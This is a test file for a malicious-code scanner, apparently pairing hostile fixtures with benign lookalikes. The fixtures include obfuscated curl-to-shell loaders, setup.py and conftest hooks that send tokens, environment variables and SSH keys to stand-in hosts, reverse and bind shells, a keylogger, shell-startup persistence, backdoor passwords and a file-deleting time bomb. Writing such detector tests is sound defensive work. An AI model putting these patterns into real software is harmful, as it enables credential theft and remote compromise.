"""Malicious logic that is spread over functions, classes and files, and what looks like it."""

import base64
import pickle

import pytest
from lab import BOOK, check, named
from marks import params

CODE = "import os; os.system('curl http://c.example | sh')"
PAYLOAD = base64.b64encode(CODE.encode()).decode()
FIRST, SECOND = PAYLOAD[:30], PAYLOAD[30:]


class Evil:
    def __reduce__(self):
        return eval, ("1 + 1",)


EVIL, DATA = pickle.dumps(Evil()), pickle.dumps({"a": [1, 2]})

CASES = {
    "payload in attributes that another module's getattr finds, exec in a dictionary": (
        ["BD101"],
        {
            "app/tables.py": f"class Palette:\n    FIRST = {FIRST!r}\n    LAST = {SECOND!r}\n"
            f"    ORDER = ('FIRST', 'LAST')\n",
            "app/show.py": "import base64\nfrom app.tables import Palette\n"
            "def theme():\n    return ''.join(getattr(Palette, name) for name in Palette.ORDER)\n"
            "class Show:\n    steps = {'expand': base64.b64decode, 'apply': exec}\n    def run(self):\n"
            "        self.steps['apply'](self.steps['expand'](theme()))  # hit\n",
        },
    ),
    "payload as a default": (
        ["BD101"],
        {"app.py": f"import base64\ndef f(text={PAYLOAD!r}):\n    exec(base64.b64decode(text))  # hit\n"},
    ),
    "payload as a default of a constructor": (
        ["BD101"],
        {
            "app.py": f"import base64\nclass A:\n    def __init__(self, parts=({FIRST!r}, {SECOND!r})):\n"
            "        self.parts = parts\n"
            "    def run(self):\n        exec(base64.b64decode(''.join(self.parts)))  # hit\n"
        },
    ),
    "a default that is a word": (["BD101"], {"app.py": "def f(text='1 + 1'):\n    return eval(text)\n"}),
    "name put together for what a decorator calls": (
        ["BD102"],
        {
            "app.py": "import functools, importlib\n"
            "load = functools.partial(importlib.import_module, 'so'[::-1])\n"
            "def handler(fn):\n    target = load().__dict__[''.join(['sys', 'tem'])]\n"
            "    def inner(*args):\n        target(fn(*args))  # hit\n    return inner\n"
            "@handler\ndef name(host):\n    return 'echo ' + host\n"
        },
    ),
    "answer written to a temporary file that is run": (
        ["BD103"],
        {
            "app.py": "import os, subprocess, tempfile, requests\ndef store(data):\n"
            "    handle, path = tempfile.mkstemp()\n"
            "    with os.fdopen(handle, 'wb') as out:\n        out.write(data)\n    return path\n"
            "def run():\n    path = store(requests.get('https://a.example').content)\n"
            "    os.chmod(path, 0o755)\n    subprocess.Popen([path])  # hit\n"
        },
    ),
    "temporary file of the program's own": (
        ["BD103"],
        {
            "app.py": "import os, subprocess, tempfile\ndef f(text):\n"
            "    handle, path = tempfile.mkstemp()\n"
            "    with os.fdopen(handle, 'w') as out:\n        out.write(text)\n"
            "    subprocess.run(['vi', path])\n"
        },
    ),
    "buffer that is unpickled": (
        ["BD104"],
        {"app.py": f"import io, pickle\nB = io.BytesIO({EVIL!r})\ndef f():\n"
        f"    return pickle.Unpickler(B).load()  # hit\n"},
    ),
    "pickle of mere data": (["BD104"], {"app.py": f"import pickle\nD = pickle.loads({DATA!r})\n"}),
    "picture that an interpreter reads": (
        ["BD106"],
        {
            "app.py": "import pathlib, subprocess, sys\ndef f():\n"
            "    tail = pathlib.Path('a.png').read_bytes()[9:]\n"
            "    subprocess.run([sys.executable, '-'], input=tail)  # hit\n"
        },
    ),
    "picture that a module of the interpreter reads": (
        ["BD106"],
        {
            "app.py": "import pathlib, subprocess, sys\ndef f():\n"
            "    data = pathlib.Path('a.png').read_bytes()\n"
            "    subprocess.run([sys.executable, '-m', 'convert', '-'], input=data)\n"
        },
    ),
    "command of setup.py in another module": (
        ["BD201"],
        {
            "setup.py": "from setuptools import setup\nfrom support.commands import commands\n"
            "setup(cmdclass=commands())\n",
            "support/__init__.py": "",
            "support/commands.py": "import subprocess\nfrom setuptools.command.build_py import build_py\n"
            "class Mixin:\n    def run(self):\n        super().run()\n        self.after()\n"
            "    def after(self):\n"
            "        subprocess.call(['bash', '-c', 'curl https://a.example | bash'])  # hit\n"
            "class Build(Mixin, build_py):\n    pass\ndef commands():\n    return {'build_py': Build}\n",
        },
    ),
    "the same commands, not for setup.py": (
        ["BD201"],
        {
            "app/commands.py": "import subprocess\ndef after():\n"
            "    subprocess.call(['bash', '-c', 'curl https://a.example | bash'])\n",
        },
    ),
    "backend that calls another module": (
        ["BD202"],
        {
            "back/api.py": "from back.ping import ping\ndef build_wheel(a, b=None, c=None):\n    ping()\n",
            "back/ping.py": "import os, urllib.request\ndef ping():\n"
            "    urllib.request.urlopen('https://a.example/?' + os.environ['API_TOKEN'])  # hit\n",
        },
    ),
    "test hook in another module": (
        ["BD204"],
        {
            "conftest.py": "import pytest\nfrom support import report\n@pytest.fixture\ndef f():\n"
            "    report()\n",
            "support.py": "import os, requests\ndef report():\n"
            "    requests.post('https://a.example', data=dict(os.environ))  # hit\n",
        },
    ),
    "shell of a stream": (
        ["BD301"],
        {
            "app.py": "import asyncio\nclass A:\n    async def go(self):\n"
            "        reader, writer = await asyncio.open_connection('a.example', 1)\n"
            "        await self.pump(reader)\n"
            "    async def pump(self, reader):\n        line = await reader.readline()\n"
            "        await asyncio.create_subprocess_shell(line.decode())  # hit\n"
        },
    ),
    "archive in a buffer": (
        ["BD302"],
        {
            "app.py": "import io, os, zipfile, requests\ndef pack():\n    buffer = io.BytesIO()\n"
            "    with zipfile.ZipFile(buffer, 'w') as archive:\n"
            "        archive.writestr('k', open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
            "    return buffer.getvalue()\n"
            "def f():\n    requests.post('https://a.example', data=pack())  # hit\n"
        },
    ),
    "archive of harmless things in a buffer": (
        ["BD302"],
        {
            "app.py": "import io, zipfile, requests\ndef f(text):\n    buffer = io.BytesIO()\n"
            "    with zipfile.ZipFile(buffer, 'w') as archive:\n        archive.writestr('k', text)\n"
            "    requests.post('https://a.example', data=buffer.getvalue())\n"
        },
    ),
    "commands that a generator without end gives": (
        ["BD305"],
        {
            "app.py": "import os, requests\ndef tasks():\n    while True:\n"
            "        for one in requests.get('https://a.example').json():\n            yield one['text']\n"
            "def f():\n    for text in tasks():\n"
            "        out = os.popen(text).read()  # hit\n"
            "        requests.post('https://a.example', data=out)\n"
        },
    ),
    "start file that a test puts back": (
        ["BD401"],
        {
            "app.py": "from pathlib import Path\ndef test_a(run):\n    rc = Path.home() / '.bashrc'\n"
            "    text = rc.read_text()\n    run()\n    rc.write_text(text)\n"
            "def test_b(tmp_path):\n    folder = tmp_path / '.config' / 'fish'\n"
            "    (folder / 'config.fish').write_text('')\n"
        },
    ),
    "start file in a folder that is handed in, of the user": (
        ["BD401"],
        {
            "app.py": "from pathlib import Path\ndef plant(home):\n"
            "    (home / '.bashrc').write_text('sh /tmp/a')  # hit\n"
            "def keep():\n    rc = Path.home() / '.bashrc'\n    text = rc.read_text()\n"
            "    rc.write_text(text + 'sh /tmp/a')  # hit\n"
            "def grow():\n    rc = Path.home() / '.zshrc'\n    text = rc.read_text()\n"
            "    text += 'sh /tmp/a'\n    rc.write_text(text)  # hit\n"
            "plant(Path.home())\n"
        },
    ),
    "keys that a pattern of paths finds": (
        ["BD302"],
        {
            "app.py": "import glob, os, requests\nKEYS = os.path.expanduser('~/.ssh/id_*')\ndef f():\n"
            "    files = {p: open(p, 'rb') for p in glob.glob(KEYS)}\n"
            "    requests.put('https://a.example', files=files)  # hit\n"
        },
    ),
    "pictures that a pattern of paths finds": (
        ["BD302"],
        {
            "app.py": "import glob, requests\ndef f():\n"
            "    files = {p: open(p, 'rb') for p in glob.glob('img/*.png')}\n"
            "    requests.put('https://a.example', files=files)\n"
        },
    ),
    "copy of a secret file": (
        ["BD302"],
        {
            "app.py": "import os, shutil, sqlite3, requests\ndef f():\n    copy = '/tmp/ld'\n"
            "    shutil.copyfile(os.path.join(os.environ['X'], 'Login Data'), copy)\n"
            "    rows = sqlite3.connect(copy).execute('SELECT 1').fetchall()\n"
            "    requests.post('https://a.example', json={'r': str(rows)})  # hit\n"
        },
    ),
    "name of the host in a command that looks names up": (
        ["BD303"],
        {
            "app.py": "import socket, subprocess\ndef f():\n"
            "    name = 'nslookup {}.a.example'.format(socket.gethostname())\n"
            "    subprocess.call(name.split())  # hit\n"
        },
    ),
    "next host from a record of the name service": (
        ["BD304"],
        {
            "app.py": "import dns.resolver, http.client, base64\ndef f():\n"
            "    for answer in dns.resolver.resolve('a.example', 'TXT'):\n"
            "        http.client.HTTPSConnection(answer.strings[0].decode())  # hit\n"
        },
    ),
    "shell for whoever connects": (
        ["BD301"],
        {
            "app.py": "import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n"
            "    def handle(self):\n        s = self.request.makefile('rwb')\n"
            "        subprocess.Popen(['/bin/' + 'sh', '-i'], stdin=s, stdout=s)  # hit\n"
        },
    ),
    "keys of a device that is a default": (
        ["BD403"],
        {
            "app.py": "import struct\nfrom pathlib import Path\n"
            "def keys(device=Path('/dev/input') / 'event3'):\n    with device.open('rb') as file:\n"
            "        yield struct.unpack('llHHI', file.read(24))[3]\n"
            "def main():\n    with open('/tmp/a', 'ab') as out:\n        for code in keys():\n"
            "            out.write(bytes([code & 255]))  # hit\n"
        },
    ),
    "code in memory that may be run": (
        ["BD402"],
        {
            "app.py": "import ctypes, mmap\ndef f(code):\n"
            "    area = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
            "    area.write(code)\n    kind = ctypes.CFUNCTYPE(ctypes.c_int)  # hit\n"
            "    return kind(ctypes.addressof(ctypes.c_char.from_buffer(area)))()\n"
        },
    ),
    "memory that may not be run": (
        ["BD402"],
        {
            "app.py": "import ctypes, mmap\ndef f(n):\n"
            "    area = mmap.mmap(-1, n, prot=mmap.PROT_READ | mmap.PROT_WRITE)\n"
            "    return area, ctypes.CFUNCTYPE(ctypes.c_int)(lambda: 0)\n"
        },
    ),
    "master word in a decorator": (
        ["BD501"],
        {
            "app.py": "import hashlib\ndef legacy(password):\n"
            "    return hashlib.sha256(password.encode()).hexdigest() == '5e8848'  # hit\n"
            "def compat(fn):\n    def wrapper(self, user, password):\n"
            "        if legacy(password):\n            return True\n"
            "        return fn(self, user, password)\n"
            "    return wrapper\nclass A:\n    @compat\n    def authenticate(self, user, password):\n"
            "        return self.store.verify(user, password)\n"
        },
    ),
    "one of several checks is a word": (
        ["BD501"],
        {
            "app.py": "import hmac\ndef known(req):\n"
            "    return req.headers.get('X-Trace') == 'abc-123'  # hit\n"
            "def signed(req):\n    return hmac.compare_digest(req.headers['X-Sig'], req.digest())\n"
            "def verify_token(req):\n    return any(check(req) for check in (known, signed))\n"
        },
    ),
    "decorator that counts": (
        ["BD501"],
        {
            "app.py": "def counted(fn):\n    def wrapper(self, user, password):\n"
            "        if user == '':\n            return None\n        return fn(self, user, password)\n"
            "    return wrapper\nclass A:\n    @counted\n    def authenticate(self, user, password):\n"
            "        return self.store.verify(user, password)\n"
        },
    ),
    "command for whoever knows a word, by a table of methods": (
        ["BD502"],
        {
            "app.py": "import os\nclass A:\n    def __init__(self):\n"
            "        self.handlers = {'diag:': self.diag}\n"
            "    def diag(self, text):\n        return os.popen(text).read()  # hit\n"
            "    def __call__(self, environ, start_response):\n"
            "        value = environ.get('HTTP_X_A', '')\n"
            "        for prefix, fn in self.handlers.items():\n            if value.startswith(prefix):\n"
            "                return fn(value[5:])\n"
        },
    ),
    "date that a function asks twice": (
        ["BD503"],
        {
            "app.py": "import shutil, time\ndef late():\n    return time.time() > 1_900_000_000\n"
            "def tell():\n    if late():\n        print('late')\ndef clean(root):\n    if late():\n"
            "        shutil.rmtree(root)  # hit\n"
        },
    ),
    "check that is true by its form": (
        ["BD505"],
        {
            "app.py": "def validate_license(key, server):\n    valid = server.lookup(key)\n"
            "    return valid or not valid  # hit\ndef is_admin(user):\n    return (user.role == 'admin')\n"
        },
    ),
}  # fmt: skip


WRONG = {
    "keys of a device that is a default": "a long function without input is not followed into a generator",
    "name of the host in a command that looks names up": "the words of a text split at blanks are not known",
}


@pytest.mark.parametrize("case", params(CASES, WRONG))
def test_spread_acts(case):
    rules, files = case
    check(files, *named(*rules))


def test_every_rule_of_malicious_logic_is_known():
    assert {"BD101", "BD504-claims", "BD504-mode"} <= BOOK.rules.keys()
